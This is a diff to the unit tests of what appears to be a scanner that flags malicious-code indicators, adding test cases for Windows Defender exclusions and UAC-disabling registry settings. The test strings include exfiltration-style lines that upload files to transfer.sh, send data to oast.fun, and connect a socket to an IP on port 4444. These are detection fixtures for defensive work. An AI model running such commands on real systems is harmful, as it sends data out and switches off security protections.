@@ -61,6 +61,8 @@ TEST(IndicatorsTest, ExfiltrationChannels) {
   ExpectIndicator("requests.get('http://x.oast.fun/' + data)", "indicator-tunnel");
   ExpectIndicator("host = 'abc123.ngrok.io'", "indicator-tunnel");
   ExpectIndicator("curl https://webhook.site/1234", "indicator-tunnel");
+  ExpectIndicator("cmd = 'powershell Add-MpPreference -ExclusionPath C:/x'", "indicator-defense-evasion");
+  ExpectIndicator("k = r'Policies\\System'; name = 'EnableLUA'", "indicator-defense-evasion");
   ExpectIndicator("r = get('https://bit.ly/3xyz')", "indicator-shortener");
   ExpectIndicator("curl --upload-file ./a https://transfer.sh/a", "indicator-filehost");
   ExpectIndicator("ip = get('https://api.ipify.org').text", "indicator-ip-lookup");
@@ -74,6 +76,7 @@ TEST(IndicatorsTest, IpLiteralUrls) {
   ExpectIndicator("u = \"https://8.8.8.8/\"", "indicator-ip-url");
   ExpectIndicator("s.connect(('91.92.1.3', 4444))", "indicator-ip-url");
   ExpectNoIndicator("app.run('http://127.0.0.1:5000/')");
+  ExpectNoIndicator("Set-MpPreference is documented here");  // no switch turned off
   ExpectNoIndicator("see http://192.168.1.10/ and http://10.0.0.1:80/");
   ExpectNoIndicator("proxy = 'http://172.17.0.1:3128'");
   ExpectNoIndicator("version 1.2.3.4 released");
